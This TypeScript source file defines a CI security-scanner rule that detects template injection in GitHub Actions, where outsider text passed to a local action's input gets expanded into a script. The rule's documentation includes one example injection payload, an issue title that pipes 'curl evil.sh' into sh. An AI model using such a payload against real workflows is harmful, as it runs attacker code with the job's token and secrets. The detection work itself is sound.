// The two halves of template injection across files: a workflow passes an outsider's text to an
// input of a local composite action or reusable workflow, and that file pastes the input into a
// script. Reported at the caller's `with:` value: that is where the outsider's text enters, where
// the trigger that makes it attacker-written is known, and an action with several callers gets one
// finding per unsafe caller instead of one line that some callers make safe and others do not.
// The callee's expansion stays `ci/template-injection-from-input`'s finding and is linked here.
import { defineProjectRule } from "../../../rule.ts";
import { localTargetPaths } from "../local-calls.ts";
import type { ActionRefFacts, CiSummary } from "../online/action-refs.ts";

export const templateInjectionThroughInput = defineProjectRule<CiSummary, ActionRefFacts>({
  id: "ci/template-injection-through-input",
  analyzer: "ci",
  title: "Attacker-controlled text passed to a local action's input that it expands into a script",
  severity: "critical",
  confidence: "high",
  lifecycle: "preview",
  cwe: [94, 78],
  controls: ["CI-INJ-01"],
  docs: {
    summary:
      "A workflow or composite action calls a local action (`uses: ./.github/actions/greet`) or a local reusable workflow (`uses: ./.github/workflows/reusable.yml`) with a `with:` value that carries text an outsider writes (the fields of `ci/template-injection`: issue and pull request titles and bodies, branch names…, directly or through `env:` and step or job outputs), and the called file, scanned with it, expands that input into a `run:` script or code input (`ci/template-injection-from-input`). Reported at the caller's `with:` value. Only files of the same scan are joined, by their path from the scan root: remote `uses: owner/action@v1` and inputs the callee only passes through `env:` are not reported.",
    whyItMatters:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      "Each file looks reasonable alone: the caller never puts `${{ github.event.issue.title }}` into a script, and the action only expands its own input. Together an issue titled `\"; curl evil.sh | sh; #` runs the attacker's commands in the caller's job, with its token and secrets.",
    remediation:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      'Fix the called file: pass the input through an environment variable (`env: TITLE: ${{ inputs.title }}`) and use `"$TITLE"` in its script, so that every caller is safe. Until then, do not pass outsider text to that input.',
    example:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      '# .github/actions/greet/action.yml\n- shell: bash\n  env:\n    TITLE: ${{ inputs.title }}\n  run: echo "Title: $TITLE"',
    references: [
      "https://docs.zizmor.sh/audits/#template-injection",
      "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
  },
  check(ctx) {
    const byPath = new Map(ctx.files.map((file) => [file.path, file]));
    for (const caller of ctx.files) {
      for (const pass of caller.summary.passes) {
        const callee = localTargetPaths(pass.target)
          .map((path) => byPath.get(path))
          .find((file) => file !== undefined);
        const expansion = callee?.summary.expands.find(
          (item) => item.input === pass.input || item.input === "*",
        );
        if (!callee || !expansion) continue;
        ctx.report({
          path: caller.path,
          message: `${pass.field} is passed as input ${pass.input} of ${callee.path}, which expands it into ${expansion.where} (line ${expansion.line}); pass it through env there`,
          at: { line: pass.line, column: pass.column },
          related: [
            {
              path: callee.path,
              at: { line: expansion.line, column: expansion.column },
              message: `inputs.${pass.input} expanded into ${expansion.where}`,
            },
          ],
        });
      }
    }
  },
});
